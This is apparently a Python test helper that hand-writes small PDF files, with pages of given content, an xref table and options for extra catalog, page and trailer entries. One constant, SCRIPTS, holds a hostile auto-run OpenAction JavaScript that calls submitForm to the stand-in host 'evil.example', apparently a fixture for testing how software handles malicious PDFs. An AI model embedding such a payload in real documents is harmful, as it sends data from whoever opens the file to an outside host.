"""Small PDFs, written by hand (ISO 32000-1): pages of given content, and what a hostile file may have beside them."""

from __future__ import annotations

from collections.abc import Sequence

RED = "1 0 0 rg 0 0 200 300 re f"
"""A page that is red all over."""
SCRIPTS = "/OpenAction << /S /JavaScript /JS (app.alert\\('run'\\); this.submitForm\\('https://evil.example/'\\);) >>"


def saying(text: str) -> str:
    """In Helvetica, which the file does not bring."""
    return f"BT /F1 24 Tf 20 150 Td ({text}) Tj ET"


def pdf(contents: Sequence[str], *, catalog: str = "", trailer: str = "", page: str = "") -> bytes:
    """One page of 200 × 300 points for each of `contents`."""
    first = 4
    kids = " ".join(f"{first + 2 * index} 0 R" for index in range(len(contents)))
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {len(contents)} /MediaBox [0 0 200 300] >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for index, content in enumerate(contents):
        own = f"/Contents {first + 2 * index + 1} 0 R /Resources << /Font << /F1 3 0 R >> >>"
        objects.append(f"<< /Type /Page /Parent 2 0 R {own} {page} >>")
        objects.append(f"<< /Length {len(content)} >>\nstream\n{content}\nendstream")
    return _file(objects, trailer)


def _file(objects: Sequence[str], trailer: str) -> bytes:
    body, places = "%PDF-1.7\n", list[int]()
    for number, written in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{written}\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    count = len(objects) + 1
    cross = f"xref\n0 {count}\n0000000000 65535 f \n{table}trailer\n<< /Size {count} /Root 1 0 R {trailer} >>\n"
    return f"{body}{cross}startxref\n{len(body)}\n%%EOF\n".encode("latin-1")
